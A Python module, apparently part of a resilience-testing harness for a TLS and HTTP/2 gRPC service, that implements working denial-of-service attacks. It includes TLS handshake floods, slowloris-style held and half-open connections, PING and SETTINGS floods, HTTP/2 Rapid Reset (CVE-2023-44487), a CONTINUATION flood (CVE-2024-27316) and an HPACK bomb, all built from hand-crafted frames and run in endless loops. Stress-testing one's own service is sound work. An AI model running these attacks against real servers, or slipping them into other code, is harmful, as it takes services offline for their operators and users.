"""Attacks by connections: of strangers, and of peers that speak HTTP/2 (RFC 9113) by hand."""

from __future__ import annotations

import asyncio
import socket
import ssl
import struct
from collections.abc import Callable
from contextlib import suppress

from attack.target import VEHICLE, Target, all_of, endpoint, for_ever
from rfcore.wire.conventions import STREAM_METHOD

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_HEADERS = 4


async def strangers(target: Target) -> None:
    """TLS handshakes without a certificate, as many as there is time for."""
    context = target.tls_context()

    async def handshake() -> None:
        async with asyncio.timeout(2):
            _, writer = await asyncio.open_connection(*target.endpoint, ssl=context)
            writer.close()

    async def again() -> None:
        with suppress(TimeoutError, ssl.SSLError):
            await handshake()

    await all_of(*(for_ever(again, 0.01) for _ in range(8)))


async def silent_connections(target: Target) -> None:
    """1,100 connections that never shake hands, opened again when they are closed."""
    await held_connections(target.endpoint, 1100, b"")


async def half_requests(target: Target) -> None:
    """200 connections to the metrics' port, each with half a request."""
    await held_connections(endpoint(target.metrics), 200, b"GET /metrics HTTP/1.1\r\nHo")


async def held_connections(address: tuple[str, int], count: int, said: bytes) -> None:
    """Hold so many connections, opened again when they are closed, and say this on each."""
    held: dict[socket.socket, bool] = {}
    while True:
        while len(held) < count:
            connection = socket.socket()
            connection.setblocking(False)
            connection.connect_ex(address)
            held[connection] = False
        for connection in tuple(held):
            if said and not held[connection]:
                with suppress(OSError):
                    held[connection] = connection.send(said) > 0
            with suppress(BlockingIOError):
                try:
                    gone = connection.recv(1) == b""
                except ConnectionError:
                    gone = True
                if gone:
                    connection.close()
                    del held[connection]
        await asyncio.sleep(0.1)


async def silent_peers(target: Target) -> None:
    """200 connections that shake hands, say that they speak HTTP/2, and then nothing."""
    context = target.tls_context(f"vehicle-{VEHICLE}")

    async def connection() -> None:
        with suppress(ssl.SSLError):
            reader, writer = await asyncio.open_connection(*target.endpoint, ssl=context)
            writer.write(PREFACE + http2_frame(SETTINGS, 0, 0))
            await drain(reader)
            writer.close()

    await all_of(*(for_ever(connection, 0.1) for _ in range(200)))


def http2_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Return a header field without indexing (RFC 7541, section 6.2.2); below 127 bytes each."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


REQUEST = b"".join(
    literal(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":path", STREAM_METHOD.encode()),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)


async def flood(target: Target, frames: Callable[[int], bytes]) -> None:
    """Send ``frames(0)``, ``frames(1)``, ... on connections that read and drop what comes."""
    context = target.tls_context(f"vehicle-{VEHICLE}")

    async def connection() -> None:
        with suppress(ssl.SSLError):
            reader, writer = await asyncio.open_connection(*target.endpoint, ssl=context)
            draining = asyncio.create_task(drain(reader))
            try:
                writer.write(PREFACE + http2_frame(SETTINGS, 0, 0))
                for number in range(100_000):
                    writer.write(frames(number))
                    await writer.drain()
                    await asyncio.sleep(0.001)
            finally:
                draining.cancel()
                writer.close()

    await all_of(*(for_ever(connection, 0.02) for _ in range(2)))


async def drain(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(1 << 16):
            pass


async def pings(target: Target) -> None:
    """PING frames, 100 at a time."""
    await flood(target, lambda _: http2_frame(PING, 0, 0, bytes(8)) * 100)


async def settings(target: Target) -> None:
    """SETTINGS frames, 100 at a time (CVE-2019-9515)."""
    await flood(target, lambda _: http2_frame(SETTINGS, 0, 0) * 100)


async def resets(target: Target) -> None:
    """Streams that are reset in the packet that opens them, 50 at a time (CVE-2023-44487)."""

    def frames(number: int) -> bytes:
        ids = range(100 * number + 1, 100 * number + 101, 2)
        opened = ((http2_frame(HEADERS, END_HEADERS, i, REQUEST), reset(i)) for i in ids)
        return b"".join(part for pair in opened for part in pair)

    await flood(target, frames)


def reset(stream: int) -> bytes:
    return http2_frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


async def continuations(target: Target) -> None:
    """A header that never ends, in CONTINUATION frames (CVE-2024-27316)."""

    def frames(number: int) -> bytes:
        if number == 0:
            return http2_frame(HEADERS, 0, 1, REQUEST)
        return http2_frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100) * 100)

    await flood(target, frames)


async def repeated_headers(target: Target) -> None:
    """A header of 3 kB in the table, named 10,000 times in each request (HPACK bomb)."""
    entry = b"\x40\x01x\x7f" + bytes([(3000 - 127) % 128 | 0x80, (3000 - 127) // 128])
    bomb = REQUEST + entry + b"y" * 3000 + b"\xbe" * 10_000
    await flood(target, lambda n: http2_frame(HEADERS, END_HEADERS, 2 * n + 1, bomb))
